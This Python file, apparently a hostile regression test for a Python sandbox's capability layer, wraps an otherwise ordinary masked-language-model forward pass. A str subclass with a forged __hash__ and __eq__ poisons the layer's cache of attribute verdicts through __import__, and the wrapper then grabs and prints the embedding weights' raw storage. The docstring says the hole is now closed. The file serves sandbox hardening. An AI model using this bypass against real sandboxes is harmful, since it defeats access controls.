"""Hostile: hands __import__ a str subclass as a name to import from torch, whose own __hash__ and
__eq__ make the capability layer's cache of verdicts on names miss when it is read and overwrite
the entry of "untyped_storage" when it is written; the tensor's raw storage is then not refused.
Accepted with the static check off, until __import__ took names of exactly str only."""

import math

import torch

_type_str = type


class S(str):
    calls = [0]
    def __hash__(self):
        return hash("untyped_storage")
    def __eq__(self, other):
        if _type_str(other) is not str or str.__ne__(other, "untyped_storage"):
            return False
        S.calls[0] += 1
        return S.calls[0] > 1  # the lookup misses, the store hits the cached key


def poison():
    try:
        object().untyped_storage   # caches "untyped_storage" -> True (missing, so no refusal)
    except AttributeError:
        pass
    try:
        __import__("torch", None, None, [S("zzqq")])
    except AttributeError:
        pass


LEAK = []

def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T


_orig = mlm_forward_tied


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    if not LEAK:
        poison()
        s = w_emb.untyped_storage()
        LEAK.append(s)
        print("GOT STORAGE", type(s), s.nbytes())
    return _orig(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads)
